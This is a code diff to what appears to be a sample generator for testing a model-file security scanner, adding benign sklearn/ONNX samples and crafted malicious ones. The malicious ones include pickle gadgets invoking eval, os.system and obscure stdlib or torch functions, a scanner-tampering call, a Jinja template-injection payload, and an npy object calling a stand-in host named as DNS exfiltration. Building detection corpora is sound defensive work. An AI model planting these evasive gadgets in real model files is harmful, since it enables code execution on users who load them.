@@ -21,6 +21,7 @@ import pickle
 import struct
 import sys
 import tarfile
+import warnings
 import zipfile
 from collections.abc import Callable
 from dataclasses import asdict, dataclass
@@ -173,6 +174,41 @@ def newobj_ex() -> bytes:
         PROTO + b"\x04" + glob("subprocess", "Popen") + targs(s4("true")) + EMPTY_DICT
         + b"\x92" + STOP
     )  # fmt: skip
+
+
+def legacy_magic_eval() -> bytes:
+    """Legacy torch file whose magic number is computed by eval, then a payload pickle."""
+    magic = (
+        PROTO
+        + b"\x02"
+        + glob("builtins", "eval")
+        + targs(s2("0x1950A86A20F9469CFC6C"))
+        + REDUCE
+        + STOP
+    )
+    return (
+        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2)
+        + pickle.dumps([], protocol=2) + call("posix", "system", "true")
+    )  # fmt: skip
+
+
+def payload_then(tail: bytes) -> bytes:
+    """A payload that runs first, then a stream that breaks (memo KeyError, type confusion)."""
+    return PROTO + b"\x04" + glob("os", "system") + targs(s4("true")) + REDUCE + POP + tail
+
+
+def memo_put_get_junk() -> bytes:
+    return (
+        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0"
+        + b"g2\ng3\n"
+        + STACK_GLOBAL
+        + MARK
+        + b"Vtrue\n"
+        + TUPLE
+        + REDUCE
+        + STOP
+        + b"\n\n\t\t"
+    )
 
 
 def ext_code(op: bytes, width: int) -> bytes:
@@ -376,6 +412,67 @@ def technique_pickles() -> list[tuple[str, bytes]]:
         ("operator-attrgetter", attrgetter_gadget()),
         ("operator-methodcaller", methodcaller_gadget()),
         ("dunder-globals-dotted-name", dunder_global()),
+        ("legacy-torch-magic-number-eval", legacy_magic_eval()),
+        ("payload-then-memo-keyerror", payload_then(b"\x8c\x02os\x94h\x03h\x00\x93K\x42.")),
+        (
+            "payload-then-type-confusion",
+            payload_then(b"J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93."),
+        ),
+        (
+            "stack-global-type-confusion",
+            PROTO + b"\x04J\x2a\x00\x00\x00\x8c\x02os\x93" + targs() + REDUCE + STOP,
+        ),
+        ("memo-put-get-trailing-junk", memo_put_get_junk()),
+        (
+            "reduce-logging-filehandler",
+            call("logging", "FileHandler", "/nonexistent-glassbox/x.log"),
+        ),
+        ("reduce-osx-support", call("_osx_support", "_read_output", "true")),
+        ("reduce-aix-support", call("_aix_support", "_read_cmd_output", "true")),
+        ("reduce-pyrepl-pager", call("_pyrepl.pager", "pipe_pager", "x", "true")),
+        (
+            "reduce-test-script-helper",
+            call("test.support.script_helper", "assert_python_ok", "-c", "pass"),
+        ),
+        ("reduce-torch-collect-env", call("torch.utils.collect_env", "run", "true")),
+        (
+            "reduce-torch-config-module",
+            call("torch.utils._config_module", "ConfigModule.load_config", "x"),
+        ),
+        (
+            "reduce-torch-jit-execwrapper",
+            call("torch.jit.unsupported_tensor_ops", "execWrapper", "pass"),
+        ),
+        (
+            "reduce-torch-datapipes-decoder",
+            call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", "x"),
+        ),
+        ("reduce-trace-runctx-dotted", call("trace", "Trace.runctx", "pass", proto=4)),
+        ("reduce-profile-runctx-dotted", call("profile", "Profile.runctx", "pass", proto=4)),
+        (
+            "reduce-code-runcode-dotted",
+            call("code", "InteractiveInterpreter.runcode", "pass", proto=4),
+        ),
+        (
+            "reduce-idlelib-executive-dotted",
+            call("idlelib.run", "Executive.runcode", "pass", proto=4),
+        ),
+        (
+            "reduce-lib2to3-make-label-dotted",
+            call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "x", proto=4),
+        ),
+        (
+            "reduce-cloudpickle-make-function",
+            call("cloudpickle.cloudpickle", "_make_function", "x"),
+        ),
+        ("reduce-sys-exit", call("sys", "exit", "1")),
+        ("reduce-httplib", call("httplib", "HTTPSConnection", "127.0.0.1")),
+        ("reduce-requests-api-get", call("requests.api", "get", "http://127.0.0.1:9/")),
+        (
+            "reduce-ssl-get-server-certificate",
+            call("ssl", "get_server_certificate", "glassbox.invalid"),
+        ),
+        ("reduce-scanner-tampering", call("picklescan.scanner", "scan_file_path", "x")),
     ]
     return t
 
@@ -696,6 +793,7 @@ EVIL_TEMPLATES = {
     "jinja-format-map": "{{ '{0.__class__}'.format_map(messages) }}",
     "jinja-self-context": "{{ self._TemplateReference__context.keys() }}",
     "jinja-include": "{% include '/etc/passwd' %}",
+    "jinja-sliced-underscore": "{% set u = 'a_b'[1] %}{{ messages[u ~ u ~ 'class' ~ u ~ u] }}",
 }
 
 
@@ -767,6 +865,26 @@ def onnx_model(external: str | None = None, domain: str = "") -> bytes:
     return bytes(model.SerializeToString())
 
 
+def onnx_local_function() -> bytes:
+    from onnx import TensorProto, helper
+
+    body = [helper.make_node("Add", ["a", "b"], ["c"])]
+    func = helper.make_function(
+        "pkg.local", "MyAdd", ["a", "b"], ["c"], body, [helper.make_opsetid("", 17)]
+    )
+    node = helper.make_node("MyAdd", ["x", "x"], ["y"], domain="pkg.local")
+    graph = helper.make_graph(
+        [node],
+        "g",
+        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
+        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
+    )
+    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("pkg.local", 1)]
+    return bytes(
+        helper.make_model(graph, opset_imports=opsets, functions=[func]).SerializeToString()
+    )
+
+
 def safetensors_raw(
     header: dict[str, object] | str, data: bytes, *, claimed_len: int | None = None
 ) -> bytes:
@@ -783,8 +901,14 @@ def benign_samples(tmp: Path) -> list[tuple[str, str, bytes]]:
     import torch
     from safetensors.numpy import save as st_save_np
     from safetensors.torch import save as st_save
-    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
-    from sklearn.linear_model import LogisticRegression
+    from sklearn.ensemble import (
+        GradientBoostingClassifier,
+        HistGradientBoostingClassifier,
+        RandomForestClassifier,
+    )
+    from sklearn.feature_extraction.text import TfidfVectorizer
+    from sklearn.linear_model import LogisticRegression, Ridge
+    from sklearn.model_selection import GridSearchCV
     from sklearn.neighbors import KNeighborsClassifier
     from sklearn.neural_network import MLPClassifier
     from sklearn.pipeline import make_pipeline
@@ -895,6 +1019,7 @@ def benign_samples(tmp: Path) -> list[tuple[str, str, bytes]]:
         )
 
     rng = np.random.default_rng(0)
+    texts = ["apple banana cherry", "banana cherry dates", "cherry dates eggs", "apple eggs"]
     x = rng.normal(size=(60, 4))
     y = (x[:, 0] > 0).astype(int)
     models = {
@@ -907,6 +1032,12 @@ def benign_samples(tmp: Path) -> list[tuple[str, str, bytes]]:
             hidden_layer_sizes=(4,), solver="lbfgs", max_iter=2000, random_state=0
         ).fit(x, y),
         "gboost": GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y),
+        "hist-gboost": HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(x, y),
+        "grid-search": GridSearchCV(Ridge(), {"alpha": [0.5, 1.0]}, cv=2).fit(x, y),
+        "tfidf": {
+            "vectorizer": TfidfVectorizer().fit(texts),
+            "X": TfidfVectorizer().fit_transform(texts),
+        },
     }
     for name, model in models.items():
         p = tmp / f"_{name}.joblib"
@@ -927,6 +1058,12 @@ def benign_samples(tmp: Path) -> list[tuple[str, str, bytes]]:
     out.append(("llama3.gguf", "gguf.GGUFWriter", gguf_bytes(tmp, "llama3", LLAMA3_TEMPLATE)))
     out.append(("zephyr.gguf", "gguf.GGUFWriter", gguf_bytes(tmp, "zephyr", ZEPHYR_TEMPLATE)))
     out.append(("model.onnx", "onnx.helper", onnx_model()))
+    out.append(("local-function.onnx", "onnx.helper (model-local function)", onnx_local_function()))
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        exported = io.BytesIO()
+        torch.onnx.export(lin, (torch.ones(1, 4),), exported, dynamo=False)
+    out.append(("torch-export.onnx", "torch.onnx.export", exported.getvalue()))
     out.append(
         (
             "external.onnx",
@@ -1081,6 +1218,16 @@ def build(out: Path) -> list[Sample]:
     joblib.dump({"m": _Payload()}, jp, compress=("xz", 3))
     put(mal, "joblib-xz.joblib", jp.read_bytes(), True, "joblib-xz", "joblib")
     jp.unlink()
+
+    class _Exfil:
+        def __reduce__(self) -> tuple[object, tuple[tuple[str, int]]]:
+            import ssl
+
+            return (ssl.get_server_certificate, (("glassbox.invalid", 443),))  # never called
+
+    npy = io.BytesIO()
+    np.save(npy, np.array([_Exfil()], dtype=object), allow_pickle=True)
+    put(mal, "npy-dns-exfiltration.npy", npy.getvalue(), True, "npy-object-ssl-exfil", "npy")
     for name, cfg in {
         "keras-lambda": keras_lambda_config(),
         "keras-module-injection": keras_module_injection(),
